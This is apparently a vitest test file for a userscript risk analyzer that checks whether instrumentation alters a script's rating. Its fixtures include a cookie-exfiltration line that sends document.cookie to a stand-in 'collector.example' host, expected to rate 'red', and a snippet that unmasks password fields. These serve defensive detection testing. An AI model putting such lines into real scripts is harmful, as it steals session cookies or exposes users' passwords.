import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { programText } from "@scriptorium/test-run/run-program";
import { expect, it } from "vitest";
import { measuredScript } from "./measured-script.ts";

/** The extension rates what it is asked to run, and shows the rating to the person. */
function ratingOf(script: string) {
	const measured = measuredScript(script, { place: "tab" });
	if (!measured.ok) throw new Error(measured.problem.message);
	const { risk_level, vulnerabilities, summary } = analyzeScript({ code: programText(measured.code) });
	return { risk_level, summary, found: vulnerabilities.map(({ type, line }) => `${type} ${line}`) };
}

it("the code that measures does not change the rating of the script", () => {
	expect(ratingOf("document.body.style.color = 'red';")).toMatchObject({ risk_level: "green" });
	const block =
		"// ==UserScript==\n// @name A\n// @match https://a.example/*\n// @grant GM_addStyle\n// ==/UserScript==\n";
	expect(ratingOf(`${block}GM_addStyle("p { color: red }");`)).toMatchObject({ risk_level: "green" });
	const passwords = "for (const field of document.querySelectorAll('input[type=password]')) field.type = 'text';";
	expect(ratingOf(passwords)).toMatchObject({ risk_level: "green" });
	const paused = "(async () => { for await (const one of [1, 2]) { await null; document.body.append(one); } })();";
	expect(ratingOf(paused)).toMatchObject({ risk_level: "green" });
	expect(ratingOf('fetch("https://collector.example/?" + document.cookie);')).toMatchObject({ risk_level: "red" });
});
